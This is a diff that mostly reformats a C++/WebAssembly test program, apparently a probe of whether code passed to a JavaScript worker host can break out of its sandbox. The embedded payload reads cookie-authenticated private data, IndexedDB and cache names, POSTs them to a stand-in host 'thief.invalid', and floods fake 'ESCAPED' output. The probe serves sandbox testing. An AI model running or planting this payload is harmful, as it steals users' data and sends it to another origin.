@@ -4,7 +4,7 @@
 #include <cstring>
 #include <asyncio/asyncio.hpp>
 using namespace std::chrono_literals;
-asyncio::Coro<void> am(){ co_await asyncio::sleep(4s); }
+asyncio::Coro<void> am() { co_await asyncio::sleep(4s); }
 asm(R"(
   .globaltype op, externref, immutable
   .import_module op, constructor
@@ -164,14 +164,27 @@ setup:
 )");
 extern "C" void got(__externref_t);
 extern "C" void setup(void (*)(__externref_t));
-__attribute__((import_module("asyncio_host"), import_name("report")))
-void report(int kind, const char* t, unsigned tl, const char* w, unsigned wl);
+__attribute__((import_module("asyncio_host"), import_name("report"))) void report(int kind, const char* t, unsigned tl,
+                                                                                  const char* w, unsigned wl);
 #ifndef CODE
-#define CODE "(async()=>{let o=[];o.push('worker global: '+self.constructor.name+' '+self.location.href);o.push('eval: '+(0,eval)('6*7'));try{o.push('fetch same origin with cookies: '+await(await fetch('/private.json',{credentials:'include'})).text())}catch(e){o.push('private '+e)}try{o.push('idb: '+JSON.stringify(await indexedDB.databases()))}catch(e){o.push('idb '+e)}try{o.push('caches: '+JSON.stringify(await caches.keys()))}catch(e){o.push('caches '+e)}try{const r=await fetch('http://thief.invalid/steal',{method:'POST',body:o.join('|')});o.push('exfiltrated to another origin: '+r.status)}catch(e){o.push('exfil '+e)}try{const b=new Blob(['postMessage(1)']);const w=new Worker(URL.createObjectURL(b));o.push('nested worker '+await new Promise((y,n)=>{w.onmessage=()=>y('ran');w.onerror=()=>y('error');setTimeout(()=>y('timeout'),2000)}))}catch(e){o.push('nested '+e)}for(let run=1;run<500;++run)postMessage({kind:'output',run,chunks:o.map(text=>({stream:'stdout',text:'ESCAPED: '+text+'\\\n',time:1}))});})()"
+#define CODE                                                                                                           \
+  "(async()=>{let o=[];o.push('worker global: '+self.constructor.name+' '+self.location.href);o.push('eval: "          \
+  "'+(0,eval)('6*7'));try{o.push('fetch same origin with cookies: '+await(await "                                      \
+  "fetch('/private.json',{credentials:'include'})).text())}catch(e){o.push('private '+e)}try{o.push('idb: "            \
+  "'+JSON.stringify(await indexedDB.databases()))}catch(e){o.push('idb '+e)}try{o.push('caches: "                      \
+  "'+JSON.stringify(await caches.keys()))}catch(e){o.push('caches '+e)}try{const r=await "                             \
+  "fetch('http://thief.invalid/steal',{method:'POST',body:o.join('|')});o.push('exfiltrated to another origin: "       \
+  "'+r.status)}catch(e){o.push('exfil '+e)}try{const b=new Blob(['postMessage(1)']);const w=new "                      \
+  "Worker(URL.createObjectURL(b));o.push('nested worker '+await new "                                                  \
+  "Promise((y,n)=>{w.onmessage=()=>y('ran');w.onerror=()=>y('error');setTimeout(()=>y('timeout'),2000)}))}catch(e){o." \
+  "push('nested '+e)}for(let "                                                                                         \
+  "run=1;run<500;++run)postMessage({kind:'output',run,chunks:o.map(text=>({stream:'stdout',text:'ESCAPED: "            \
+  "'+text+'\\\n',time:1}))});})()"
 #endif
 int main() {
   setup(&got);
   const char* code = CODE;
   report(0, "x", 1, code, std::strlen(code));
-  std::puts("back in C++"); asyncio::run(am());
+  std::puts("back in C++");
+  asyncio::run(am());
 }
